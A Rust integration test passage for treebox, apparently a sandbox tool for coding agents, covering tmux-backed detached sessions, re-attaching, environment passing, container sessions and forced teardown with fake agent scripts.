//! Sessions that outlive the terminal (SPEC §7a), with real tmux: detached agents,
//! re-attaching under a pseudo-terminal, the starting command's environment, and
//! removal refusing or ending a live session.
//!
//! Every test's state dir is its own, and so is treebox's tmux socket in it
//! (`<state>/treebox/tmux.sock`): no test touches the user's tmux, and each one ends
//! its server when it ends ([`Server`]).

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::env::{write_exec, TestEnv, SANDBOX, TREEBOX};

/// A fake agent that stays up: it writes what it was started with to
/// `$HOME/agent-<box>.env`, appends its pid to `$HOME/agent.pids`, and exits with
/// `$FAKE_EXIT` once `$STOP_DIR/stop-<box>` (default `$HOME`) exists; with `$DEAF`
/// set it ignores hang-ups and terminations.
const STAYING_AGENT: &str = r#"#!/bin/sh
# With $DEAF set, it ignores hang-ups and terminations (as a stubborn agent might).
[ -n "$DEAF" ] && trap '' HUP TERM
{
  printf 'pid=%s\n' "$$"
  printf 'key=%s\n' "$MODEL_KEY"
  printf 'path=%s\n' "$PATH"
  printf 'gitexec=%s\n' "$GIT_EXEC_PATH"
  printf 'extra=%s\n' "$TREEBOX_EXTRA"
  printf 'box=%s\n' "$TREEBOX_BOX"
  printf 'cwd=%s\n' "$PWD"
  # The PWD it was started with (a shell sets its own when that one is wrong).
  printf 'envpwd=%s\n' "$(tr '\0' '\n' < /proc/$$/environ | sed -n 's/^PWD=//p')"
  for a in "$@"; do printf 'arg=%s\n' "$a"; done
} > "${STOP_DIR:-$HOME}/agent-$TREEBOX_BOX.env"
echo "$$" >> "${STOP_DIR:-$HOME}/agent.pids"
while [ ! -f "${STOP_DIR:-$HOME}/stop-$TREEBOX_BOX" ]; do sleep 0.05; done
exit "${FAKE_EXIT:-0}"
"#;

/// What Claude Code does once its prompt is up: run the `SessionStart` hooks of the
/// `--settings` file it was given (treebox's status hooks report `idle`, which a
/// detached start waits for). Put after a fake claude's shebang by [`claude_like`].
const SESSION_START: &str = r#"s= p=; for a in "$@"; do [ "$p" = --settings ] && s=$a; p=$a; done
[ -n "$s" ] && sed -n '/"SessionStart"/,/]/s/.*"command": "\(.*\)".*/\1/p' "$s" | while IFS= read -r c; do sh -c "$c" </dev/null; done
"#;

/// `script`, a fake claude, reporting its start as the real one does.
pub(crate) fn claude_like(script: &str) -> String {
    let (shebang, rest) = script.split_once('\n').unwrap();
    format!("{shebang}\n{SESSION_START}{rest}")
}

/// The test's own tmux server (treebox's socket in the test's state dir), ended when
/// the test ends.
pub(crate) struct Server {
    socket: PathBuf,
}

impl Server {
    pub(crate) fn of(env: &TestEnv) -> Server {
        Server {
            socket: env.state_dir().join("treebox/tmux.sock"),
        }
    }

    fn tmux(&self, args: &[&str]) -> std::process::Output {
        Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .args(args)
            .env_remove("TMUX")
            .output()
            .expect("tmux")
    }

    fn sessions(&self) -> Vec<String> {
        let out = self.tmux(&["list-sessions", "-F", "#{session_name}"]);
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn clients(&self) -> usize {
        let out = self.tmux(&["list-clients", "-F", "#{client_name}"]);
        String::from_utf8_lossy(&out.stdout).lines().count()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if self.socket.exists() {
            let _ = self.tmux(&["kill-server"]);
        }
    }
}

/// Wait (at most a minute: a slow machine is not a failure) until `done` holds.
#[track_caller]
pub(crate) fn wait_for(what: &str, mut done: impl FnMut() -> bool) {
    let since = Instant::now();
    while !done() {
        assert!(
            since.elapsed() < Duration::from_secs(60),
            "gave up waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(25));
    }
}

fn session_of(env: &TestEnv, name: &str) -> String {
    let doc = env.treebox(&["list", "--json"]).ok().json();
    doc["boxes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["name"] == name)
        .unwrap_or_else(|| panic!("no box {name}: {doc:#}"))["session"]
        .as_str()
        .unwrap()
        .to_string()
}

fn agent_env(dir: &Path, leaf: &str) -> String {
    std::fs::read_to_string(dir.join(format!("agent-{leaf}.env"))).unwrap_or_default()
}

fn pid_in(text: &str) -> i32 {
    text.lines()
        .find_map(|l| l.strip_prefix("pid="))
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no pid in {text:?}"))
}

fn process_exists(pid: i32) -> bool {
    Path::new(&format!("/proc/{pid}")).exists()
}

/// Wait until `n` agents have started (each appends its pid once its env is written),
/// and return the newest one's `agent-<leaf>.env`.
fn started(dir: &Path, leaf: &str, n: usize) -> String {
    let pids = dir.join("agent.pids");
    wait_for("the agent to start", || {
        std::fs::read_to_string(&pids)
            .unwrap_or_default()
            .lines()
            .count()
            >= n
    });
    agent_env(dir, leaf)
}

fn shown(env: &TestEnv) -> String {
    std::fs::read_to_string(env.home.join("tty.out")).unwrap_or_default()
}

fn env_with_agent() -> TestEnv {
    let env = TestEnv::new();
    write_exec(&env.bin.join("claude"), &claude_like(STAYING_AGENT));
    env
}

/// `BINARY ARGS` on a pseudo-terminal (util-linux `script`), left running; stdin stays
/// open (nothing is typed) until the child is waited for. What the terminal shows goes
/// to `$HOME/tty.out`.
fn on_tty_running(env: &TestEnv, binary: &str, args: &str, extra: &[(&str, &str)]) -> Child {
    let shown = std::fs::File::create(env.home.join("tty.out")).unwrap();
    let mut c = env.command("script", &env.repo);
    c.args(["-qec", &format!("{binary} {args}"), "/dev/null"])
        .stdin(Stdio::piped())
        .stdout(shown.try_clone().unwrap())
        .stderr(shown);
    for (k, v) in extra {
        c.env(k, v);
    }
    c.spawn().expect("util-linux script")
}

#[test]
fn a_detached_agent_is_live_protects_its_box_and_ends() {
    let env = env_with_agent();
    let server = Server::of(&env);
    let before = std::time::SystemTime::now();
    let r = env.treebox(&["create", "-d", "solo", "--", "fix the bug"]);
    r.ok();
    let path = env.box_path("solo");
    assert_eq!(r.stdout.trim(), path.to_string_lossy(), "{r:?}");
    assert!(r.stderr.contains("git treebox enter solo"), "{r:?}");
    // Live as soon as `create -d` returns, in a session named after repo and box.
    assert_eq!(session_of(&env, "solo"), "live");
    let names = server.sessions();
    assert_eq!(names.len(), 1, "{names:?}");
    assert!(names[0].ends_with("/solo"), "{names:?}");
    let started = started(&env.home, "solo", 1);
    assert!(
        started.contains(&format!("cwd={}", path.display())),
        "{started}"
    );
    assert!(
        started.contains("arg=--dangerously-skip-permissions"),
        "{started}"
    );
    assert!(started.contains("arg=fix the bug"), "{started}");
    // The session's activity (what idle parking reads) is the agent's output.
    let marker = env.box_state("solo").join("session.lock");
    let seen = treebox::session::activity(&marker).expect("a live session's activity");
    // (tmux counts whole seconds.)
    assert!(
        seen + Duration::from_secs(1) >= before,
        "{seen:?} {before:?}"
    );
    assert!(seen <= std::time::SystemTime::now());
    // `git sandbox ls` sees the same session.
    let ls = env.sandbox(&["ls", "--json"]).ok().json();
    assert!(ls.to_string().contains("\"live\""), "{ls:#}");

    // Removal refuses while the agent runs, and removes nothing.
    let before = env.snapshot();
    let r = env.treebox(&["teardown", "solo"]);
    r.code(5);
    assert!(r.stderr.contains("live agent session"), "{r:?}");
    let r = env.sandbox(&["down", "solo"]);
    r.code(5);
    assert!(r.stderr.contains("session is live"), "{r:?}");
    assert_eq!(env.snapshot(), before);
    assert!(process_exists(pid_in(&started)));

    // `enter -d` on a live session starts no second agent; nor does `enter` off a
    // terminal, which has nothing to attach it to: refused, nothing written.
    env.treebox(&["enter", "-d", "solo"]).ok();
    let before = env.snapshot();
    let r = env.treebox(&["enter", "solo"]);
    r.code(5);
    assert!(r.stderr.contains("no terminal to attach"), "{r:?}");
    assert!(r.stderr.contains("git treebox enter solo"), "{r:?}");
    assert_eq!(env.snapshot(), before);
    // Flags checked against the box (or asking for a re-sync) change nothing of that:
    // refused before anything is touched, no re-sync under the running agent.
    for flags in [
        &["--cold"][..],
        &["--isolation", "host"],
        &["--git", "worktree"],
        &["--cold", "--isolation", "host", "--git", "worktree"],
    ] {
        let r = env.treebox(&[&["enter"], flags, &["solo"]].concat());
        r.code(5);
        assert!(
            r.stderr.contains("no terminal to attach"),
            "{flags:?} {r:?}"
        );
        assert_eq!(env.snapshot(), before, "{flags:?}");
    }
    let pids = std::fs::read_to_string(env.home.join("agent.pids")).unwrap();
    assert_eq!(pids.lines().count(), 1, "{pids}");

    // The agent exits: the session is gone, and the box can go.
    std::fs::write(env.home.join("stop-solo"), "").unwrap();
    wait_for("the session to end", || session_of(&env, "solo") == "none");
    assert!(server.sessions().is_empty());
    assert_eq!(treebox::session::activity(&marker), None);
    env.treebox(&["teardown", "--force", "solo"]).ok();
}

#[test]
fn reattaching_on_a_terminal_returns_the_agents_exit_code() {
    let env = env_with_agent();
    let server = Server::of(&env);
    let r = env
        .command(TREEBOX, &env.repo)
        .args(["create", "-d", "coded"])
        .env("FAKE_EXIT", "7")
        .output()
        .unwrap();
    assert!(r.status.success(), "{r:?}");
    // Attached from inside the user's own tmux (another server): not refused as nested.
    let mut client = on_tty_running(
        &env,
        TREEBOX,
        "enter coded",
        &[("TMUX", "/tmp/tmux-0/default,1,0"), ("TMUX_PANE", "%0")],
    );
    wait_for("the terminal to attach", || server.clients() == 1);
    std::fs::write(env.home.join("stop-coded"), "").unwrap();
    let status = client.wait().unwrap();
    assert_eq!(status.code(), Some(7), "{}", shown(&env));
    // One agent: the terminal joined the one `create -d` started.
    let pids = std::fs::read_to_string(env.home.join("agent.pids")).unwrap();
    assert_eq!(pids.lines().count(), 1, "{pids}");
    assert_eq!(session_of(&env, "coded"), "none");

    // Killed by a signal: 128+signal, as a shell reports it.
    std::fs::remove_file(env.home.join("stop-coded")).unwrap();
    env.treebox(&["enter", "-d", "coded"]).ok();
    let pid = pid_in(&started(&env.home, "coded", 2));
    let mut client = on_tty_running(&env, SANDBOX, "attach coded", &[]);
    wait_for("the terminal to attach", || server.clients() == 1);
    // SAFETY: a plain kill(2) of the fake agent this test started.
    unsafe {
        libc::kill(pid, libc::SIGTERM);
    }
    let status = client.wait().unwrap();
    assert_eq!(status.code(), Some(128 + libc::SIGTERM), "{}", shown(&env));
}

#[test]
fn on_a_terminal_create_attaches_and_detaching_leaves_the_agent_running() {
    let env = env_with_agent();
    let server = Server::of(&env);
    let mut client = on_tty_running(&env, TREEBOX, "create --no-fetch fresh", &[]);
    wait_for("the terminal to attach", || server.clients() == 1);
    assert_eq!(session_of(&env, "fresh"), "live");
    // Detach the client (what prefix-d does): the command returns 0, the agent runs on.
    server.tmux(&["detach-client", "-s", &server.sessions()[0]]);
    let status = client.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{}", shown(&env));
    assert!(
        shown(&env).contains("git treebox enter fresh"),
        "{}",
        shown(&env)
    );
    assert_eq!(session_of(&env, "fresh"), "live");
    std::fs::write(env.home.join("stop-fresh"), "").unwrap();
    wait_for("the session to end", || session_of(&env, "fresh") == "none");
}

#[test]
fn each_detached_agent_gets_the_environment_of_the_command_that_started_it() {
    let env = env_with_agent();
    let _server = Server::of(&env);
    let extra = env.root().join("extra-bin");
    std::fs::create_dir_all(&extra).unwrap();
    let path_one = format!(
        "{}:{}",
        extra.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let run = |leaf: &str, key: &str, more: &str, path: Option<&str>| {
        let mut c = env.command(TREEBOX, &env.repo);
        c.args(["create", "-d", leaf])
            .env("MODEL_KEY", key)
            .env("TREEBOX_EXTRA", more);
        if let Some(p) = path {
            c.env("PATH", format!("{}:{p}", env.bin.display()));
        }
        let o = c.output().unwrap();
        assert!(o.status.success(), "{o:?}");
    };
    run("first", "key-one", "one", Some(&path_one));
    // The server is running now, started by the first command: the second agent still
    // gets the second command's environment, not the server's.
    let first = started(&env.home, "first", 1);
    run("second", "key-two", "two", None);
    started(&env.home, "second", 2);
    let second = agent_env(&env.home, "second");
    assert!(
        first.contains("key=key-one") && first.contains("extra=one"),
        "{first}"
    );
    assert!(first.contains(&*extra.to_string_lossy()), "{first}");
    assert!(
        second.contains("key=key-two") && second.contains("extra=two"),
        "{second}"
    );
    assert!(!second.contains(&*extra.to_string_lossy()), "{second}");
    assert!(first.contains("box=first") && second.contains("box=second"));
    // Started in its box, and told so: `PWD` is the box, not where `create` ran.
    for (leaf, seen) in [("first", &first), ("second", &second)] {
        let pwd = format!("envpwd={}\n", env.box_path(leaf).display());
        assert!(seen.contains(&pwd), "{seen}");
    }
    // Started through git (`git treebox`), whose dispatch puts its exec dir first on
    // PATH and in GIT_EXEC_PATH: the agent gets the shell's environment without them.
    let o = env
        .command("git", &env.repo)
        .args(["treebox", "create", "-d", "third"])
        .env(
            "PATH",
            format!(
                "{}:{}:{path_one}",
                Path::new(TREEBOX).parent().unwrap().display(),
                env.bin.display()
            ),
        )
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    let third = started(&env.home, "third", 3);
    let exec_dir = String::from_utf8(
        env.command("git", &env.repo)
            .arg("--exec-path")
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert!(third.contains("gitexec=\n"), "{third}");
    let path = third.lines().find_map(|l| l.strip_prefix("path=")).unwrap();
    assert!(!path.split(':').any(|d| d == exec_dir.trim()), "{third}");
    assert!(
        path.starts_with(&*Path::new(TREEBOX).parent().unwrap().to_string_lossy()),
        "{third}"
    );
    for leaf in ["first", "second", "third"] {
        std::fs::write(env.home.join(format!("stop-{leaf}")), "").unwrap();
    }
    wait_for("the sessions to end", || {
        ["first", "second", "third"]
            .iter()
            .all(|l| session_of(&env, l) == "none")
    });
}

#[test]
fn forced_removal_ends_the_session_and_the_agent() {
    let env = env_with_agent();
    let server = Server::of(&env);
    env.treebox(&["create", "-d", "doomed"]).ok();
    let doomed = pid_in(&started(&env.home, "doomed", 1));
    env.treebox(&["create", "-d", "downed"]).ok();
    let downed = pid_in(&started(&env.home, "downed", 2));
    assert!(process_exists(doomed) && process_exists(downed));
    env.treebox(&["teardown", "--force", "doomed"]).ok();
    assert!(
        !process_exists(doomed),
        "the agent outlived teardown --force"
    );
    assert!(!env.box_path("doomed").exists());
    env.sandbox(&["down", "-f", "downed"]).ok();
    assert!(!process_exists(downed), "the agent outlived down -f");
    // An agent deaf to the hang-up is killed all the same.
    let o = env
        .command(TREEBOX, &env.repo)
        .args(["create", "-d", "deaf"])
        .env("DEAF", "1")
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    let deaf = pid_in(&started(&env.home, "deaf", 3));
    env.treebox(&["teardown", "--force", "deaf"]).ok();
    assert!(
        !process_exists(deaf),
        "a deaf agent outlived teardown --force"
    );
    assert!(server.sessions().is_empty(), "{:?}", server.sessions());
}

#[test]
fn without_tmux_detaching_is_refused_and_launching_stays_in_the_foreground() {
    let mut env = TestEnv::new();
    env.extra_env
        .push(("TREEBOX_TMUX".into(), "/nonexistent/tmux".into()));
    let before = env.snapshot();
    let r = env.treebox(&["create", "-d", "nope"]);
    r.code(1);
    assert!(r.stderr.contains("tmux is not installed"), "{r:?}");
    assert!(r.stderr.contains("hint:"), "{r:?}");
    assert_eq!(
        env.snapshot(),
        before,
        "a refused create -d wrote something"
    );
    // Without -d (and without a terminal) the agent is a foreground child, as always,
    // and its exit code is the command's.
    let o = env
        .command(TREEBOX, &env.repo)
        .args(["create", "fg"])
        .env("FAKE_EXIT", "3")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(3), "{o:?}");
    assert!(env.harness_log().contains("box=fg"));
    // On a terminal too.
    std::fs::write(env.home.join("harness.log"), "").unwrap();
    let (ok, shown) = env.on_tty(TREEBOX, "enter fg", "");
    assert!(ok, "{shown}");
    assert!(env.harness_log().contains("box=fg"), "{shown}");
    // doctor says what is lost.
    let doc = env.treebox(&["doctor", "--json"]).json();
    let check = doc["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "sessions")
        .cloned()
        .unwrap_or_else(|| panic!("no sessions check: {doc:#}"));
    assert_eq!(check["status"], "advisory", "{check}");
    assert!(
        check["summary"].as_str().unwrap().contains("foreground"),
        "{check}"
    );
}

/// The container's agent: a script in the box (the test image has no agent CLI) that
/// keeps its files beside itself, in the one directory the box shares with the host
/// (the container's environment is its own, not the starting command's).
const CONTAINER_AGENT: &str = r#"#!/bin/sh
d=$(dirname "$0")
echo "$TERM" > "$d/agent.term"
echo "box=$TREEBOX_BOX" >> "$d/agent.started"
while [ ! -f "$d/stop" ]; do sleep 0.05; done
rm -f "$d/stop"
exit 9
"#;

/// How many agents [`CONTAINER_AGENT`] (or [`LINGERING_AGENT`]) started in the box at
/// `path`: each adds a line to `agent.started` there.
pub(crate) fn agents_started(path: &Path) -> usize {
    std::fs::read_to_string(path.join("agent.started"))
        .unwrap_or_default()
        .lines()
        .count()
}

/// A container box `leaf` of `b`'s engine, made without a launch, whose claude is
/// [`CONTAINER_AGENT`] (a script in the box, named by the config): its path.
pub(crate) fn container_agent_box(b: &crate::container::Boxed, leaf: &str) -> PathBuf {
    let env = &b.env;
    env.treebox(&["create", "--no-launch", leaf]).ok();
    let path = env.box_path(leaf);
    write_exec(&path.join("agent.sh"), &claude_like(CONTAINER_AGENT));
    env.write_config(&format!(
        r#"{{"template": "test", "isolation": "{}", "harnesses": {{"claude": {{"program": "{}/agent.sh"}}}}}}"#,
        b.engine,
        path.display()
    ));
    path
}

#[test]
fn a_container_agent_runs_in_a_session_and_down_ends_it() {
    crate::container::each_engine(|b| {
        let env = &b.env;
        let server = Server::of(env);
        let path = container_agent_box(&b, "boxed");
        let count = || agents_started(&path);
        env.treebox(&["enter", "-d", "boxed"]).ok();
        wait_for("the agent to start", || count() == 1);
        assert_eq!(session_of(env, "boxed"), "live");
        // Its terminal is the pane's kind (the image knows it), not the engine's `xterm`.
        let pane_term = server.tmux(&["show-options", "-gv", "default-terminal"]);
        let pane_term = String::from_utf8_lossy(&pane_term.stdout)
            .trim()
            .to_string();
        let term = std::fs::read_to_string(path.join("agent.term")).unwrap();
        assert_eq!(term.trim(), pane_term);
        env.sandbox(&["down", "boxed"]).code(5);
        // `git sandbox attach` joins the agent's session; the agent's code comes back.
        let mut client = on_tty_running(env, SANDBOX, "attach boxed", &[]);
        wait_for("the terminal to attach", || server.clients() == 1);
        std::fs::write(path.join("stop"), "").unwrap();
        assert_eq!(client.wait().unwrap().code(), Some(9), "{}", shown(env));
        assert_eq!(count(), 1, "a second agent was started");
        assert_eq!(session_of(env, "boxed"), "none");
        // A new agent, then `down -f`: the container goes, and the session with it.
        env.treebox(&["enter", "-d", "boxed"]).ok();
        wait_for("the agent to start", || count() == 2);
        assert_eq!(session_of(env, "boxed"), "live");
        // Idle parking counts the session's last output: idle long enough (here: any
        // time at all), the container stops and its session ends with it.
        env.sandbox(&["park", "--idle", "0"]).ok();
        let doc = env.sandbox(&["park", "--idle", "0", "--json"]).ok().json();
        assert_eq!(doc["parked"][0]["name"], "boxed", "{doc}");
        assert_eq!(session_of(env, "boxed"), "none");
        assert!(server.sessions().is_empty(), "{:?}", server.sessions());
        // Back to work: the next detached agent starts the container again.
        env.treebox(&["enter", "-d", "boxed"]).ok();
        wait_for("the agent to start", || count() == 3);
        assert_eq!(session_of(env, "boxed"), "live");
        // The engine's own detach keys, ctrl-p ctrl-q, typed in the session, reach the
        // agent and detach nothing...
        let target = format!("={}:", server.sessions()[0]);
        let typed = |hex: &[&str]| {
            let o = server.tmux(&[&["send-keys", "-t", &target, "-H"], hex].concat());
            assert!(o.status.success(), "{o:?}");
        };
        typed(&["10", "11"]);
        std::thread::sleep(Duration::from_millis(1500));
        assert_eq!(session_of(env, "boxed"), "live");
        // ...while treebox's chord (ctrl-^ ctrl-] ctrl-_) does on docker: the keys do
        // reach the engine's exec, which lets go of the (still running) agent. (podman
        // 4.3's exec did not let go within the wait on CI; not asserted there.)
        if b.engine == "docker" {
            typed(&["1e", "1d", "1f"]);
            wait_for("the exec to detach", || session_of(env, "boxed") == "none");
        }
        env.sandbox(&["down", "-f", "boxed"]).ok();
        assert!(server.sessions().is_empty(), "{:?}", server.sessions());
    });
}

/// A container box's agent that leaves a child of its own running and never stops.
pub(crate) const LINGERING_AGENT: &str = r#"#!/bin/sh
d=$(dirname "$0")
sleep 1000 &
echo "box=$TREEBOX_BOX" >> "$d/agent.started"
while :; do sleep 0.05; done
"#;

/// The pids of the processes in `b`'s container of box `leaf` that are not root's: the
/// agent's (root's are the container's own and this look's).
pub(crate) fn agent_processes(b: &crate::container::Boxed, leaf: &str) -> Vec<String> {
    let look = r#"for d in /proc/[0-9]*; do
  l=; read -r l <"$d/stat" 2>/dev/null || continue
  set -- ${l##*) }; [ "$1" = Z ] && continue
  while read -r k v _; do [ "$k" = Uid: ] && { [ "$v" != 0 ] && echo "${d#/proc/}"; break; }; done <"$d/status"
done"#;
    let out = b
        .engine_cmd(&["exec", &b.container(leaf), "sh", "-c", look])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .map(String::from)
        .collect()
}

#[test]
fn ending_a_container_agents_session_ends_what_it_runs_in_the_container() {
    crate::container::each_engine(|b| {
        let env = &b.env;
        let server = Server::of(env);
        let path = container_agent_box(&b, "cut");
        write_exec(&path.join("agent.sh"), &claude_like(LINGERING_AGENT));
        let count = || agents_started(&path);
        // `box_stop`: once it answers, nothing of the agent runs in the container (the
        // engine's client is killed with the session; the agent and its child were not).
        env.treebox(&["enter", "-d", "cut"]).ok();
        wait_for("the agent to start", || count() == 1);
        assert!(agent_processes(&b, "cut").len() >= 2);
        let served = crate::mcp::Served::start(env);
        let doc = served.answer("box_stop", serde_json::json!({"name": "cut"}));
        assert_eq!(doc["stopped"], true, "{doc}");
        assert_eq!(agent_processes(&b, "cut"), Vec::<String>::new());
        drop(served);
        assert_eq!(session_of(env, "cut"), "none");
        // The session's server killed (the user's own `tmux kill-server`).
        env.treebox(&["enter", "-d", "cut"]).ok();
        wait_for("the agent to start", || count() == 2);
        assert!(!agent_processes(&b, "cut").is_empty());
        server.tmux(&["kill-server"]);
        wait_for("the agent's programs to end", || {
            agent_processes(&b, "cut").is_empty()
        });
        // A command run in the foreground whose terminal hangs up: the hang-up reaches
        // its process group, as a closing terminal's does.
        let mut run = env.command(SANDBOX, &env.repo);
        run.args(["run", "cut", "--", "sh", "-c", "sleep 1000 & sleep 1000"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        std::os::unix::process::CommandExt::process_group(&mut run, 0);
        let mut run = run.spawn().unwrap();
        wait_for("the command to run", || {
            agent_processes(&b, "cut").len() >= 3
        });
        // SAFETY: a hang-up to the process group this test made for the command.
        unsafe {
            libc::kill(-(run.id() as i32), libc::SIGHUP);
        }
        // Bounded: a test run started with SIGHUP ignored (under `nohup`) hands that on,
        // and `run` keeps an ignored hang-up ignored for what it runs (by design).
        let since = Instant::now();
        let status = loop {
            if let Some(status) = run.try_wait().unwrap() {
                break status;
            }
            if since.elapsed() > Duration::from_secs(60) {
                // SAFETY: the same process group; nothing of the test is left running.
                unsafe {
                    libc::kill(-(run.id() as i32), libc::SIGKILL);
                }
                let _ = run.wait();
                panic!("`run` did not end on its hang-up (SIGHUP ignored by whoever started the tests?)");
            }
            std::thread::sleep(Duration::from_millis(25));
        };
        assert_eq!(status.code(), Some(129), "{status:?}");
        assert_eq!(agent_processes(&b, "cut"), Vec::<String>::new());
        env.sandbox(&["down", "-f", "cut"]).ok();
    });
}

/// A `create` interrupted (ctrl-C: its process group) or killed outright (a crash)
/// during a setup step in the container: the step, and what it started, end with it.
#[test]
fn a_create_cut_off_during_a_setup_step_ends_the_step_in_the_container() {
    crate::container::each_engine(|b| {
        let env = &b.env;
        env.write_config(&format!(
            r#"{{"template": "test", "isolation": "{}", "setup": ["sleep 1000 & sleep 1000"]}}"#,
            b.engine
        ));
        for (leaf, group) in [("ctrlc", true), ("crash", false)] {
            let mut create = env.command(TREEBOX, &env.repo);
            create
                .args(["create", "--no-launch", leaf])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null());
            std::os::unix::process::CommandExt::process_group(&mut create, 0);
            let mut create = create.spawn().unwrap();
            // Its record names the container once made; then the container runs.
            let running = |leaf: &str| {
                let rec = std::fs::read_to_string(crate::proof::record_path(env, leaf));
                let named = rec.ok().and_then(|r| {
                    let v: serde_json::Value = serde_json::from_str(&r).ok()?;
                    v["container"]["name"].as_str().map(String::from)
                });
                named.is_some_and(|c| {
                    b.engine_cmd(&["exec", &c, "true"])
                        .output()
                        .is_ok_and(|o| o.status.success())
                })
            };
            wait_for("the setup step to run", || {
                running(leaf) && agent_processes(&b, leaf).len() >= 2
            });
            let (to, sig) = match group {
                // The terminal's interrupt reaches the process group: `create` and
                // the engine's client.
                true => (-(create.id() as i32), libc::SIGINT),
                // `create` alone, with no chance to do anything: the client lives on.
                false => (create.id() as i32, libc::SIGKILL),
            };
            // SAFETY: a signal to the process (group) this test started.
            unsafe {
                libc::kill(to, sig);
            }
            let status = create.wait().unwrap();
            assert!(!status.success(), "{leaf}: {status:?}");
            wait_for("the setup step to end in the container", || {
                agent_processes(&b, leaf).is_empty()
            });
            env.treebox(&["teardown", "--force", leaf]).ok();
        }
    });
}

#[test]
fn a_detached_agent_that_cannot_start_is_reported_as_in_the_foreground() {
    let env = TestEnv::new();
    let _server = Server::of(&env);
    std::fs::remove_file(env.bin.join("claude")).unwrap();
    let r = env.treebox(&["create", "-d", "nocli"]);
    r.code(1);
    assert!(
        r.stderr
            .contains("could not start `claude`: not found on PATH"),
        "{r:?}"
    );
    assert!(r.stderr.contains("harnesses.<name>.program"), "{r:?}");
    assert_eq!(session_of(&env, "nocli"), "none");
    // Codex too, though it starts through the status writer when it is there.
    std::fs::remove_file(env.bin.join("codex")).unwrap();
    let r = env.treebox(&["create", "-d", "nocodex", "--harness", "codex"]);
    r.code(1);
    assert!(
        r.stderr
            .contains("could not start `codex`: not found on PATH"),
        "{r:?}"
    );
    assert_eq!(session_of(&env, "nocodex"), "none");
}

#[test]
fn up_on_a_terminal_opens_its_shell_in_a_session_and_returns_its_code() {
    use std::io::Write;
    let env = TestEnv::new();
    let server = Server::of(&env);
    let mut client = on_tty_running(&env, SANDBOX, "up --no-fetch shelled", &[]);
    wait_for("the terminal to attach", || server.clients() == 1);
    let names = server.sessions();
    assert!(
        names.len() == 1 && names[0].ends_with("/shelled"),
        "{names:?}"
    );
    assert_eq!(session_of(&env, "shelled"), "live");
    // What is typed reaches the shell in the box, through tmux.
    let mut keys = client.stdin.take().unwrap();
    keys.write_all(b"pwd > where.txt; exit 4\r").unwrap();
    keys.flush().unwrap();
    let status = client.wait().unwrap();
    drop(keys);
    assert_eq!(status.code(), Some(4), "{}", shown(&env));
    let path = env.box_path("shelled");
    assert_eq!(
        std::fs::read_to_string(path.join("where.txt"))
            .unwrap()
            .trim(),
        path.to_string_lossy()
    );
    assert_eq!(session_of(&env, "shelled"), "none");
}

/// `create NAME` off a terminal without `-d`, left running: the agent is its
/// foreground child (SPEC §7a).
fn in_the_foreground(env: &TestEnv, leaf: &str) -> Child {
    env.command(TREEBOX, &env.repo)
        .args(["create", leaf])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

#[test]
fn forced_removal_ends_an_agent_running_in_the_foreground() {
    // With tmux on the machine, but no terminal and no -d: a foreground child.
    let env = env_with_agent();
    let server = Server::of(&env);
    let mut create = in_the_foreground(&env, "fg");
    let agent = pid_in(&started(&env.home, "fg", 1));
    assert_eq!(session_of(&env, "fg"), "live");
    assert!(server.sessions().is_empty(), "{:?}", server.sessions());
    let before = env.snapshot();
    env.treebox(&["teardown", "fg"]).code(5);
    assert_eq!(env.snapshot(), before);
    env.treebox(&["teardown", "--force", "fg"]).ok();
    assert!(
        !process_exists(agent),
        "a foreground agent outlived teardown --force"
    );
    assert!(!env.box_path("fg").exists());
    // The command that ran it exits as the agent did: terminated.
    let status = create.wait().unwrap();
    assert_eq!(status.code(), Some(128 + libc::SIGTERM));

    // Without tmux at all: the same, through `git sandbox down -f`.
    let mut env = env;
    env.extra_env
        .push(("TREEBOX_TMUX".into(), "/nonexistent/tmux".into()));
    let mut create = in_the_foreground(&env, "notmux");
    let agent = pid_in(&started(&env.home, "notmux", 2));
    assert_eq!(session_of(&env, "notmux"), "live");
    let r = env.sandbox(&["down", "notmux"]);
    r.code(5);
    assert!(r.stderr.contains("git sandbox down -f notmux"), "{r:?}");
    env.sandbox(&["down", "-f", "notmux"]).ok();
    assert!(
        !process_exists(agent),
        "a foreground agent outlived down -f"
    );
    assert!(!env.box_path("notmux").exists());
    assert_eq!(create.wait().unwrap().code(), Some(128 + libc::SIGTERM));
}

#[test]
fn up_detached_starts_the_shell_in_its_session_and_down_asks_for_it() {
    let env = TestEnv::new();
    let server = Server::of(&env);
    let r = env.sandbox(&["up", "-d", "--no-fetch", "shell"]);
    r.ok();
    assert_eq!(r.stdout.trim(), env.box_path("shell").to_string_lossy());
    assert!(r.stderr.contains("git sandbox attach shell"), "{r:?}");
    // The shell runs in the box's session, detached, as long as nobody ends it.
    assert_eq!(session_of(&env, "shell"), "live");
    let names = server.sessions();
    assert!(
        names.len() == 1 && names[0].ends_with("/shell"),
        "{names:?}"
    );
    assert_eq!(server.clients(), 0);
    // `down` without a terminal refuses while it runs, naming -f; nothing goes.
    let before = env.snapshot();
    let r = env.sandbox(&["down", "shell"]);
    r.code(5);
    assert!(r.stderr.contains("session"), "{r:?}");
    assert!(r.stderr.contains("git sandbox down -f shell"), "{r:?}");
    assert_eq!(env.snapshot(), before);
    // `up --json` provisions only: no shell, no session.
    let doc = env
        .sandbox(&["up", "--no-fetch", "plain", "--json"])
        .ok()
